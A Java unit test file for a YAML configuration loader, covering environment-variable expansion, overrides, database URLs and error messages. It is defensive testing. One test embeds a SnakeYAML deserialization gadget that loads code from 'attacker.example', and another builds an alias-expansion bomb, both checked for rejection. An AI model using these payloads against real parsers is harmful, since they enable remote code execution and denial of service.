package eu.panosc.platform.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** YAML parsing, {@code ${ENV}} expansion, overrides and file handling. */
class ConfigLoaderTest {

  @TempDir
  Path dir;

  private static PanoscConfig loadString(Map<String, String> env, String yaml) {
    return new ConfigLoader(env).loadString(yaml, Map.of());
  }

  private Path write(String yaml) throws IOException {
    Path file = dir.resolve("panosc.yaml");
    Files.writeString(file, yaml);
    return file;
  }

  // --- environment expansion -----------------------------------------------------------------------

  @Test
  void loadStringWhenEnvReferenceSetThenExpanded() {
    PanoscConfig config = loadString(Map.of("PORT", "9191", "HOST", "10.0.0.1"),
        "server:\n  port: ${PORT}\n  host: \"${HOST}\"\n");

    assertThat(config.server().port()).isEqualTo(9191);
    assertThat(config.server().host()).isEqualTo("10.0.0.1");
  }

  @Test
  void loadStringWhenEnvReferenceInsideTextThenOnlyReferenceReplaced() {
    PanoscConfig config = loadString(Map.of("DOMAIN", "example.org"),
        "server:\n  publicBaseUrl: https://cp.${DOMAIN}/panosc\n");

    assertThat(config.server().publicBaseUrl()).hasToString("https://cp.example.org/panosc");
  }

  @Test
  void loadStringWhenEnvMissingWithDefaultThenDefaultUsed() {
    PanoscConfig config = loadString(Map.of(), "server:\n  port: ${PORT:-7070}\n");

    assertThat(config.server().port()).isEqualTo(7070);
  }

  @Test
  void loadStringWhenEnvEmptyWithDefaultThenDefaultUsed() {
    assertThat(loadString(Map.of("PORT", ""), "server:\n  port: ${PORT:-7070}\n").server().port()).isEqualTo(7070);
  }

  @Test
  void loadStringWhenEnvSetAndDefaultGivenThenEnvWins() {
    assertThat(loadString(Map.of("PORT", "9999"), "server:\n  port: ${PORT:-7070}\n").server().port())
        .isEqualTo(9999);
  }

  @Test
  void loadStringWhenEnvMissingWithoutDefaultThenErrorNamesKeyAndVariable() {
    assertThatThrownBy(() -> loadString(Map.of(), "server:\n  host: ${PANOSC_HOST}\n"))
        .isInstanceOf(ConfigException.class)
        .satisfies(e -> assertThat(((ConfigException) e).key()).isEqualTo("server.host"))
        .hasMessage("server.host: environment variable PANOSC_HOST is not set; set it or write "
            + "${PANOSC_HOST:-default}");
  }

  @Test
  void loadStringWhenDoubleDollarThenLiteralKept() {
    ConfigNode svc = loadString(Map.of("X", "expanded"), "services:\n  pdp:\n    template: \"$${X} and ${X}\"\n")
        .service("pdp");

    assertThat(svc.string("template", null)).isEqualTo("${X} and expanded");
  }

  @Test
  void loadStringWhenDoubleDollarWithUnsetVariableThenNoError() {
    ConfigNode svc = loadString(Map.of(), "services:\n  pdp:\n    template: $${UNSET_VAR:-x}\n").service("pdp");

    assertThat(svc.string("template", null)).isEqualTo("${UNSET_VAR:-x}");
  }

  @Test
  void loadStringWhenEnvValueContainsReferenceThenNotExpandedAgain() {
    ConfigNode svc = loadString(Map.of("A", "${B}", "B", "b"), "services:\n  s:\n    v: ${A}\n").service("s");

    assertThat(svc.string("v", null)).isEqualTo("${B}");
  }

  @Test
  void loadStringWhenEnvReferencesInListsAndNestedMapsThenExpanded() {
    PanoscConfig config = loadString(Map.of("H1", "a.example.org", "H2", "b.example.org", "DEEP", "down"), """
        services:
          pdp:
            hosts: [ "${H1}", "${H2}", plain ]
            nested:
              deeper:
                value: ${DEEP}
                list:
                  - name: ${H1}
        """);

    ConfigNode pdp = config.service("pdp");
    assertThat(pdp.stringList("hosts")).containsExactly("a.example.org", "b.example.org", "plain");
    ConfigNode deeper = pdp.node("nested").node("deeper");
    assertThat(deeper.string("value", null)).isEqualTo("down");
    assertThat(deeper.asMap().get("list")).isEqualTo(List.of(Map.of("name", "a.example.org")));
  }

  @Test
  void loadStringWhenEnvMissingInListThenErrorNamesListIndex() {
    assertThatThrownBy(() -> loadString(Map.of("H1", "x"), "services:\n  pdp:\n    hosts: [\"${H1}\", \"${H2}\"]\n"))
        .isInstanceOf(ConfigException.class)
        .hasMessageStartingWith("services.pdp.hosts[1]: environment variable H2 is not set");
  }

  // --- overrides and PANOSC_DB_URL -----------------------------------------------------------------

  @Test
  void loadStringWhenOverrideGivenThenOverrideWinsOverYaml() {
    PanoscConfig config = new ConfigLoader(Map.of())
        .loadString("server:\n  port: 9090\n  host: 127.0.0.1\n", Map.of("server.port", "9191", "demo", "true"));

    assertThat(config.server().port()).isEqualTo(9191);
    assertThat(config.server().host()).isEqualTo("127.0.0.1");
    assertThat(config.demo()).isTrue();
  }

  @Test
  void loadWhenOverrideGivenThenOverrideWinsOverFile() throws IOException {
    Path file = write("server:\n  port: 9090\nlogging:\n  level: warn\n");

    PanoscConfig config = new ConfigLoader(Map.of()).load(Optional.of(file), Map.of("logging.level", "debug"));

    assertThat(config.server().port()).isEqualTo(9090);
    assertThat(config.logging().level()).isEqualTo("debug");
  }

  @Test
  void loadWhenOverrideKeyUnknownThenRejected() {
    assertThatThrownBy(() -> new ConfigLoader(Map.of()).load(Optional.empty(), Map.of("server.prot", "1")))
        .isInstanceOf(ConfigException.class)
        .hasMessageStartingWith("server.prot: unknown key");
  }

  @Test
  void loadWhenOverrideInvalidThenErrorNamesKey() {
    assertThatThrownBy(() -> new ConfigLoader(Map.of()).load(Optional.empty(), Map.of("server.port", "abc")))
        .isInstanceOf(ConfigException.class)
        .hasMessage("server.port: expected an integer between 0 and 65535, got 'abc'");
  }

  @Test
  void loadWhenDbUrlEnvSetThenWinsOverFile() throws IOException {
    Path file = write("database:\n  url: postgresql://file:pw@filehost/db\n  poolSize: 6\n");

    PanoscConfig config = new ConfigLoader(Map.of("PANOSC_DB_URL", " postgresql://env:pw@envhost/db "))
        .load(Optional.of(file), Map.of());

    assertThat(config.database().url()).map(Secret::value).contains("postgresql://env:pw@envhost/db");
    assertThat(config.database().poolSize()).isEqualTo(6);
  }

  @Test
  void loadWhenDbUrlEnvSetWithoutFileThenExternalDatabase() {
    PanoscConfig config = new ConfigLoader(Map.of("PANOSC_DB_URL", "postgresql://env:pw@envhost/db"))
        .load(Optional.empty(), Map.of());

    assertThat(config.database().embedded()).isFalse();
  }

  @Test
  void loadWhenDbUrlEnvBlankThenIgnored() {
    PanoscConfig config = new ConfigLoader(Map.of("PANOSC_DB_URL", "  ")).load(Optional.empty(), Map.of());

    assertThat(config.database().embedded()).isTrue();
  }

  @Test
  void loadWhenDbUrlEnvAndOverrideThenOverrideWins() {
    PanoscConfig config = new ConfigLoader(Map.of("PANOSC_DB_URL", "postgresql://env/db"))
        .load(Optional.empty(), Map.of("database.url", "postgresql://cli/db"));

    assertThat(config.database().url()).map(Secret::value).contains("postgresql://cli/db");
  }

  @Test
  void loadWhenDbUrlEnvInvalidThenErrorHidesUrl() {
    assertThatThrownBy(() -> new ConfigLoader(Map.of("PANOSC_DB_URL", "mysql://root:hunter2@db/x"))
            .load(Optional.empty(), Map.of()))
        .isInstanceOf(ConfigException.class)
        .hasMessageStartingWith("database.url: expected postgresql://")
        .message().doesNotContain("hunter2").doesNotContain("mysql");
  }

  @Test
  void loadStringWhenDbUrlEnvSetThenWinsOverYamlLikeLoad() {
    PanoscConfig config = new ConfigLoader(Map.of("PANOSC_DB_URL", "postgresql://env/db"))
        .loadString("database:\n  url: postgresql://yaml/db\n", Map.of());

    assertThat(config.database().url()).map(Secret::value).contains("postgresql://env/db");
  }

  // --- YAML problems -------------------------------------------------------------------------------

  @Test
  void loadStringWhenYamlInvalidThenErrorGivesLineNumber() {
    assertThatThrownBy(() -> loadString(Map.of(), "server:\n  port: 8080\n   host: x\n"))
        .isInstanceOf(ConfigException.class)
        .satisfies(e -> assertThat(((ConfigException) e).key()).isEqualTo("config"))
        .hasMessageStartingWith("config: <string> is not valid YAML at line 3, column");
  }

  @Test
  void loadWhenFileYamlInvalidThenErrorNamesFileAndLine() throws IOException {
    Path file = write("server:\n  port: [8080\n");

    assertThatThrownBy(() -> new ConfigLoader(Map.of()).load(Optional.of(file), Map.of()))
        .isInstanceOf(ConfigException.class)
        .hasMessageContaining(file.toString())
        .hasMessageContaining("is not valid YAML at line ");
  }

  @Test
  void loadStringWhenRootIsListThenErrorSaysMappingExpected() {
    assertThatThrownBy(() -> loadString(Map.of(), "- server\n- database\n"))
        .isInstanceOf(ConfigException.class)
        .hasMessage("config: <string> must be a mapping of sections (server, database, ...)");
  }

  @Test
  void loadStringWhenRootIsScalarThenErrorSaysMappingExpected() {
    assertThatThrownBy(() -> loadString(Map.of(), "just text\n"))
        .isInstanceOf(ConfigException.class)
        .hasMessageContaining("must be a mapping of sections");
  }

  @Test
  void loadStringWhenRootKeyNotStringThenError() {
    assertThatThrownBy(() -> loadString(Map.of(), "1: x\n"))
        .isInstanceOf(ConfigException.class)
        .hasMessageContaining("key 1 must be a string");
  }

  @Test
  void loadStringWhenDuplicateKeyThenErrorNamesKeyAndLine() {
    assertThatThrownBy(() -> loadString(Map.of(), "server:\n  port: 1\n  port: 2\n"))
        .isInstanceOf(ConfigException.class)
        .hasMessageContaining("not valid YAML at line 3")
        .hasMessageContaining("duplicate key port");
  }

  @Test
  void loadStringWhenJavaTagThenRejectedAsUnsafe() {
    String yaml = "server:\n  host: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
        + "[[!!java.net.URL [\"http://attacker.example/\"]]]]\n";

    assertThatThrownBy(() -> loadString(Map.of(), yaml))
        .isInstanceOf(ConfigException.class)
        .hasMessageStartingWith("config: <string> is not valid YAML at line 2")
        .hasMessageContaining("javax.script.ScriptEngineManager");
  }

  @Test
  void loadStringWhenJavaLangTagThenRejected() {
    assertThatThrownBy(() -> loadString(Map.of(), "demo: !!java.lang.Boolean true\n"))
        .isInstanceOf(ConfigException.class)
        .hasMessageContaining("not valid YAML");
  }

  @Test
  void loadStringWhenAliasBombThenRejected() {
    StringBuilder yaml = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for (int i = 1; i < 30; i++) {
      yaml.append("a").append(i).append(": &a").append(i).append(" [");
      for (int j = 0; j < 10; j++) {
        yaml.append(j == 0 ? "" : ", ").append("*a").append(i - 1);
      }
      yaml.append("]\n");
    }

    assertThatThrownBy(() -> loadString(Map.of(), yaml.toString()))
        .isInstanceOf(ConfigException.class)
        .hasMessageContaining("not valid YAML");
  }

  // --- files ---------------------------------------------------------------------------------------

  @Test
  void loadWhenFileValidThenRead() throws IOException {
    Path file = write("server:\n  port: 9494\n");

    assertThat(new ConfigLoader(Map.of()).load(Optional.of(file), Map.of()).server().port()).isEqualTo(9494);
  }

  @Test
  void loadWhenNoFileThenDefaults() {
    assertThat(new ConfigLoader(Map.of()).load(Optional.empty(), Map.of()).server().port()).isEqualTo(8080);
  }

  @Test
  void loadWhenFileMissingThenErrorNamesPath() {
    Path missing = dir.resolve("nope.yaml");

    assertThatThrownBy(() -> new ConfigLoader(Map.of()).load(Optional.of(missing), Map.of()))
        .isInstanceOf(ConfigException.class)
        .hasMessageStartingWith("config: cannot read " + missing.toAbsolutePath())
        .hasMessageContaining("NoSuchFileException");
  }

  @Test
  void loadWhenPathIsDirectoryThenErrorNamesPath() {
    assertThatThrownBy(() -> new ConfigLoader(Map.of()).load(Optional.of(dir), Map.of()))
        .isInstanceOf(ConfigException.class)
        .hasMessageStartingWith("config: cannot read " + dir.toAbsolutePath());
  }

  @Test
  void loadWhenFileEmptyThenDefaults() throws IOException {
    Path file = write("");

    PanoscConfig config = new ConfigLoader(Map.of()).load(Optional.of(file), Map.of());

    assertThat(config.logging().level()).isEqualTo("info");
  }
}
